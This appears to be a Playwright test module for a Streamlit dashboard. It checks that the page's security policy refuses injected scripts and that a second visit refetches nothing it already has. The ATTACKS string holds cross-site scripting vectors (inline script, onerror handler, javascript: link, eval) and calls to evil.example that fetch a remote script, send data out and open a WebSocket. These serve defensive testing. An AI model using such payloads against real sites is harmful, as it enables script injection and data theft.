"""What a browser may do on our screens: run our scripts, ask our server, and nothing else (docs/security.md: L8).

That no screen needs more is watched in every browser test (`conftest.forbidden`).
"""

import tomllib
from typing import Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.browser_shop import come, settled
from tests.dashboard import ROOT, Dashboard

ATTACKS: Final = """() => {
  const at = (what) => { window.attacks = [...(window.attacks ?? []), what]; };
  window.at = at;
  window.refusals = 0;
  addEventListener("securitypolicyviolation", () => { window.refusals += 1; });
  const script = document.createElement("script");
  script.textContent = "at('a script in the page')";
  document.body.append(script);
  const far = document.createElement("script");
  far.src = "https://evil.example/script.js";
  far.onload = () => at("a script of another host");
  document.body.append(far);
  document.body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="at(\\'a handler in a tag\\')">');
  document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script>parent.at(1)</script>"></iframe>');
  const link = document.createElement("a");
  link.href = "javascript:at('a link')";
  document.body.append(link);
  link.click();
  setTimeout(() => { try { (0, eval)("at('a text as a script')"); } catch { at(""); } });
  fetch("https://evil.example/?what=was-read").then(() => at("asked another host"), () => at(""));
  const far_socket = () => new WebSocket("wss://evil.example/");
  try { far_socket(); } catch { /* refused at once */ }
}"""


@pytest.mark.long
def test_a_script_put_into_a_screen_is_not_run(page: Page, dashboard: Dashboard, forbidden: list[str]) -> None:
    come(page, dashboard, "staff")
    settled(page)
    page.evaluate(ATTACKS)
    page.wait_for_function("() => window.attacks.length >= 2 && window.refusals >= 7")
    assert {each for each in page.evaluate("window.attacks") if each} == set()
    assert forbidden
    forbidden.clear()


def test_the_platforms_interface_for_programs_is_off_behind_the_door_too() -> None:
    assert not tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())["server"].get("enableAgentApi")


@pytest.mark.long
def test_a_second_visit_fetches_nothing_again_that_it_has(page: Page, dashboard: Dashboard) -> None:
    come(page, dashboard, "staff")
    expect(page.get_by_label("E-mail")).to_be_enabled()
    again = page.context.new_page()
    again.goto(dashboard.url)
    expect(again.get_by_label("E-mail")).to_be_enabled()
    fetched = again.evaluate(
        "performance.getEntriesByType('resource').filter((each) => each.transferSize > 0).map((each) => each.name)"
    )
    asked = {urlsplit(address).path for address in fetched}
    asked.discard("/favicon.png")  # the browser's own affair, at a time of its own
    assert asked <= {"/_stcore/health", "/_stcore/host-config"}  # beside the live connection, not before it
